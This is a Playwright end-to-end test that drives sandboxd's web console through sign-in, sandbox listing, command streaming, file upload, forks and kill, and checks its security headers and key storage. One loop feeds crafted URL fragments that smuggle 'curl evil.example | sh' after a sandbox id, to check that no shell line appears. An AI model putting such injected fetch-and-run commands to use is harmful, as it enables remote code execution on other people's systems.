// Drives sandboxd's web console in Debian's chromium (playwright-core) against
// a real sandboxd: run by e2e/console_test.go, which starts the server and
// checks afterwards, through the API, what this script did.
//
// Env: SANDBOXD_URL, SANDBOXD_API_KEY, SANDBOXD_IMAGE (to create a sandbox),
// SANDBOXD_ARTIFACTS (screenshots), CHROMIUM (default /usr/bin/chromium).
// It prints "SANDBOX <id>" for the Go side.
import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { chromium } from 'playwright-core';

const base = process.env.SANDBOXD_URL;
const key = process.env.SANDBOXD_API_KEY;
const image = process.env.SANDBOXD_IMAGE;
const shots = process.env.SANDBOXD_ARTIFACTS;
assert.ok(base && key && image && shots, 'SANDBOXD_URL, SANDBOXD_API_KEY, SANDBOXD_IMAGE and SANDBOXD_ARTIFACTS are required');
mkdirSync(shots, { recursive: true });

// Generous: the machine is shared and slow; these only guard against hangs.
const WAIT = { timeout: 90_000 };

const step = (name) => console.log(`--- ${name}`);
const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
  args: ['--headless=new', '--no-sandbox'],
});
const context = await browser.newContext({ viewport: { width: 1280, height: 860 }, deviceScaleFactor: 1 });
const page = await context.newPage();
const urls = [];
const problems = [];
page.on('request', (r) => urls.push(r.url()));
page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
page.on('console', (m) => {
  // Chromium reports a CSP violation on the console. (Failed requests are
  // expected there too: the refused key, the metrics stream of a killed
  // sandbox.)
  if (/Content Security Policy|Refused to/i.test(m.text())) problems.push(`console: ${m.text()}`);
});
const shot = async (name) => page.screenshot({ path: join(shots, `${name}.png`), fullPage: true });

async function storage() {
  return page.evaluate(() => ({
    local: Object.fromEntries(Object.entries(localStorage)),
    session: Object.fromEntries(Object.entries(sessionStorage)),
  }));
}

let sandboxId = '';
try {
  step('the console loads with its security headers');
  const res = await page.goto(`${base}/console/`);
  assert.equal(res.status(), 200);
  const csp = res.headers()['content-security-policy'] || '';
  assert.match(csp, /default-src 'self'/);
  assert.match(csp, /frame-ancestors 'none'/);
  assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
  assert.equal(res.headers()['x-frame-options'], 'DENY');
  await page.waitForSelector('#signin', WAIT);
  await shot('1-sign-in');

  step('a wrong key is refused and not kept');
  await page.fill('#apikey', key + 'x');
  await page.click('#signin-button');
  await page.waitForFunction(() => /refused/.test(document.querySelector('#signin-error')?.textContent || ''), null, WAIT);
  assert.deepEqual((await storage()).session, {}, 'a refused key must not be stored');
  await shot('2-wrong-key');

  step('sign in');
  await page.fill('#apikey', key);
  await page.click('#signin-button');
  await page.waitForSelector('#sandboxes', WAIT);

  step('a sandbox created through the API appears in the list');
  const created = await page.evaluate(async ({ key, image }) => {
    const r = await fetch('/v1/sandboxes', {
      method: 'POST',
      headers: { 'OPEN-SANDBOX-API-KEY': key, 'Content-Type': 'application/json' },
      body: JSON.stringify({ image: { uri: image }, entrypoint: ['sh', '-c', 'echo sandbox main process started; exec tail -f /dev/null'], timeout: 1800, metadata: { team: 'console-e2e', owner: 'agent-7' } }),
    });
    return { status: r.status, body: await r.json() };
  }, { key, image });
  assert.equal(created.status, 202, JSON.stringify(created.body));
  sandboxId = created.body.id;
  console.log(`SANDBOX ${sandboxId}`);
  const row = `tr[data-id="${sandboxId}"]`;
  await page.waitForSelector(row, WAIT);
  await page.waitForFunction((sel) => /Running/.test(document.querySelector(sel)?.textContent || ''), row, WAIT);
  const rowText = await page.textContent(row);
  assert.match(rowText, /team=console-e2e/);
  assert.match(rowText, /in \d+m/, 'an expiry countdown');
  await page.waitForFunction((sel) => /\d+s/.test(document.querySelector(sel)?.children[5]?.textContent || ''), row, WAIT);

  step('filters: a state that does not match hides it, the right metadata shows it');
  await page.check('input[value="Paused"]');
  await page.waitForFunction((sel) => !document.querySelector(sel), row, WAIT);
  await page.uncheck('input[value="Paused"]');
  await page.fill('#filter-metadata', 'team=console-e2e');
  await page.press('#filter-metadata', 'Enter');
  await page.waitForSelector(row, WAIT);
  step('the pool and its fill level');
  await page.waitForFunction(() => /console-pool\s*1 \/ 1 ready/.test(document.querySelector('#pools')?.textContent || ''), null, WAIT);
  await shot('3-sandboxes');

  step('the sandbox page shows its status and resource charts');
  await page.click(`${row} a`);
  await page.waitForSelector('#shell-line', WAIT);
  assert.equal(await page.textContent('#shell-line'), `sandboxd shell ${sandboxId}`);
  await page.waitForFunction(() => {
    const v = document.querySelectorAll('.chart .value');
    return v.length === 2 && [...v].every((e) => /\d/.test(e.textContent));
  }, null, WAIT);
  await page.waitForTimeout(4000); // a few samples make a line
  await shot('4-sandbox');

  step('a crafted link puts no shell line on the page');
  // The id comes from the URL fragment: a link can say anything. Neither an
  // id that does not exist nor the real one with a command after it gets
  // a line to copy into a shell.
  for (const crafted of ['x;curl%20evil.example%20|sh', `${sandboxId}%3Bcurl%20evil.example%7Csh`, `${sandboxId}%20--help`]) {
    await page.goto(`${base}/console/#/sandbox/${crafted}/overview`);
    await page.waitForFunction(() => /no longer exists/.test(document.querySelector('#sandbox-error')?.textContent || ''), null, WAIT);
    assert.equal(await page.$('#shell-line'), null, `a shell line for ${crafted}`);
    assert.doesNotMatch(await page.textContent('.shellline'), /sandboxd shell|curl/, `shell text for ${crafted}`);
  }
  await page.goto(`${base}/console/#/sandbox/${sandboxId}/overview`);
  await page.waitForSelector('#shell-line', WAIT);
  assert.equal(await page.textContent('#shell-line'), `sandboxd shell ${sandboxId}`);

  step('a command streams its output: stdout and stderr apart, then the exit code');
  await page.click('a[href$="/commands"]');
  await page.waitForSelector('#command', WAIT);
  await page.fill('#command', 'echo first; sleep 3; echo oops >&2; echo last; exit 4');
  await page.click('#run');
  // The first line is there while the command still runs.
  const stdout = () => page.evaluate(() => [...document.querySelectorAll('#output .stdout')].map((e) => e.textContent).join(''));
  await page.waitForFunction(() => document.querySelector('#output .stdout')?.textContent === 'first\n', null, WAIT);
  assert.equal(await page.textContent('#exit'), 'running…', 'output must arrive before the command ends');
  assert.equal(await stdout(), 'first\n');
  await page.waitForFunction(() => /exit code 4/.test(document.querySelector('#exit').textContent), null, WAIT);
  assert.equal(await page.textContent('#output .stderr'), 'oops\n');
  assert.equal(await stdout(), 'first\nlast\n');
  assert.match(await page.textContent('#command-history'), /\[4\] echo first/);

  step('interrupt a running command');
  await page.fill('#command', 'echo started; sleep 600');
  await page.click('#run');
  await page.waitForFunction(() => document.querySelector('#output .stdout')?.textContent === 'started\n', null, WAIT);
  await page.click('#interrupt');
  await page.waitForFunction(() => /exit code|no exit code/.test(document.querySelector('#exit').textContent), null, WAIT);
  assert.doesNotMatch(await page.textContent('#exit'), /exit code 0$/);
  await page.fill('#command', 'for i in 1 2 3; do echo "line $i"; done; uname -a');
  await page.click('#run');
  await page.waitForFunction(() => /exit code 0/.test(document.querySelector('#exit').textContent), null, WAIT);
  await shot('5-commands');

  step('upload an image and a text file, preview both');
  await page.click('a[href$="/files"]');
  await page.waitForSelector('#files tr', WAIT);
  const png = await page.evaluate(() => {
    const c = document.createElement('canvas');
    c.width = 320; c.height = 160;
    const g = c.getContext('2d');
    g.fillStyle = '#fff'; g.fillRect(0, 0, 320, 160);
    const bars = [40, 90, 65, 120, 80, 140];
    bars.forEach((v, i) => { g.fillStyle = '#2f6fed'; g.fillRect(20 + i * 50, 150 - v, 34, v); });
    return c.toDataURL('image/png').split(',')[1];
  });
  await page.setInputFiles('#upload', { name: 'chart.png', mimeType: 'image/png', buffer: Buffer.from(png, 'base64') });
  await page.waitForSelector('#preview-image', WAIT);
  await page.waitForFunction(() => document.querySelector('#preview-image').naturalWidth === 320, null, WAIT);
  await page.waitForSelector('tr[data-path="/tmp/chart.png"]', WAIT);
  await page.setInputFiles('#upload', { name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('hello from the console\n<b>not bold</b>\n') });
  await page.waitForSelector('#preview-text', WAIT);
  assert.equal(await page.textContent('#preview-text'), 'hello from the console\n<b>not bold</b>\n');
  assert.equal(await page.$('#preview b'), null, 'file text must not become HTML');
  await page.click('tr[data-path="/tmp/chart.png"] a');
  await page.waitForFunction(() => document.querySelector('#preview-image')?.naturalWidth === 320, null, WAIT);
  await shot('6-files');

  step('download returns the bytes');
  const [download] = await Promise.all([
    page.waitForEvent('download', WAIT),
    page.click('tr[data-path="/tmp/notes.txt"] button'),
  ]);
  const chunks = [];
  for await (const c of await download.createReadStream()) chunks.push(c);
  assert.equal(Buffer.concat(chunks).toString(), 'hello from the console\n<b>not bold</b>\n');

  step('the container log');
  await page.click('a[href$="/logs"]');
  await page.waitForFunction(() => /sandbox main process started/.test(document.querySelector('#logs')?.textContent || ''), null, WAIT);
  await shot('7-logs');

  step('the key is in no URL and no lasting storage, and no cookie is set');
  const st = await storage();
  assert.deepEqual(st.local, {}, 'localStorage must stay empty');
  assert.equal(st.session['sandboxd.apiKey'], key);
  assert.deepEqual(await context.cookies(), []);
  for (const u of urls) assert.ok(!u.includes(key) && !u.includes(encodeURIComponent(key)), `key in URL ${u}`);
  const other = await browser.newContext();
  const fresh = await other.newPage();
  await fresh.goto(`${base}/console/`);
  await fresh.waitForSelector('#signin', WAIT);
  await other.close();

  step('renew, pause and resume, each after confirming');
  await page.click('a[href$="/overview"]');
  await page.waitForSelector('button[data-action="renew"]:not([disabled])', WAIT);
  await page.click('button[data-action="renew"]');
  await page.waitForSelector('dialog[open] #dialog-input', WAIT);
  await page.fill('#dialog-input', '90');
  await page.click('#dialog-ok');
  const api = (path) => page.evaluate(async ({ path, key }) => (await fetch(path, { headers: { 'OPEN-SANDBOX-API-KEY': key } })).json(), { path, key });
  const until = async (what, cond) => {
    for (const end = Date.now() + WAIT.timeout; Date.now() < end; await page.waitForTimeout(300)) {
      if (await cond()) return;
    }
    throw new Error(`gave up waiting for ${what}`);
  };
  await until('the renewed expiry', async () => new Date((await api(`/v1/sandboxes/${sandboxId}`)).expiresAt) - Date.now() > 80 * 60000);
  await page.click('button[data-action="pause"]');
  await page.waitForSelector('dialog[open]', WAIT);
  await page.click('#dialog-ok');
  await page.waitForSelector('button[data-action="resume"]', WAIT);
  assert.equal((await api(`/v1/sandboxes/${sandboxId}`)).status.state, 'Paused');
  await page.waitForFunction(() => /Paused/.test(document.querySelector('ol.history')?.textContent || ''), null, WAIT);
  await page.click('button[data-action="resume"]');
  await page.waitForSelector('dialog[open]', WAIT);
  await page.click('#dialog-ok');
  await page.waitForSelector('button[data-action="pause"]', WAIT);
  assert.equal((await api(`/v1/sandboxes/${sandboxId}`)).status.state, 'Running');

  step('forks: the source lists its fork, the fork names its source');
  const fork = await page.evaluate(async ({ sandboxId, key }) => {
    const res = await fetch(`/v1/sandboxes/${sandboxId}/fork`, {
      method: 'POST', body: JSON.stringify({ timeout: 600 }),
      headers: { 'OPEN-SANDBOX-API-KEY': key, 'Content-Type': 'application/json' },
    });
    return res.json();
  }, { sandboxId, key });
  let forked;
  await until('the fork to succeed', async () => {
    forked = await api(`/v1/forks/${fork.id}`);
    return forked.status.state === 'Succeeded';
  });
  const target = forked.sandboxIds[0];
  await page.waitForSelector(`#forks li[data-fork="${fork.id}"] a[href="#/sandbox/${target}/overview"]`, WAIT);
  assert.match(await page.textContent(`#forks li[data-fork="${fork.id}"]`), /Fork into 1\s*Succeeded/);
  await shot('8-forks');
  await page.click(`#forks a[href="#/sandbox/${target}/overview"]`);
  await page.waitForSelector(`#forks li[data-fork="${fork.id}"] a[href="#/sandbox/${sandboxId}/overview"]`, WAIT);
  assert.match(await page.textContent(`#forks li[data-fork="${fork.id}"]`), /Forked from/);
  await page.evaluate(async ({ target, key }) => fetch(`/v1/sandboxes/${target}`, { method: 'DELETE', headers: { 'OPEN-SANDBOX-API-KEY': key } }), { target, key });
  await page.goto(`${base}/console/#/sandbox/${sandboxId}/overview`);
  await page.waitForSelector('button[data-action="kill"]', WAIT);

  step('kill, after confirming');
  await page.waitForSelector('button[data-action="kill"]', WAIT);
  await page.click('button[data-action="kill"]');
  await page.waitForSelector('dialog[open]', WAIT);
  await page.click('#dialog-cancel');
  await page.waitForTimeout(500);
  assert.equal(await page.$('dialog[open]'), null);
  await page.click('button[data-action="kill"]');
  await page.waitForSelector('dialog[open]', WAIT);
  await shot('9-kill-confirm');
  await page.click('#dialog-ok');
  await page.waitForSelector('#sandboxes', WAIT);
  await page.waitForFunction((sel) => !document.querySelector(sel), row, WAIT);
  await shot('10-after-kill');

  step('sign out forgets the key');
  await page.click('#signout');
  await page.waitForSelector('#signin', WAIT);
  assert.deepEqual((await storage()).session['sandboxd.apiKey'], undefined);

  assert.deepEqual(problems, [], 'no script errors or CSP violations');
  console.log('OK');
} finally {
  await browser.close();
}
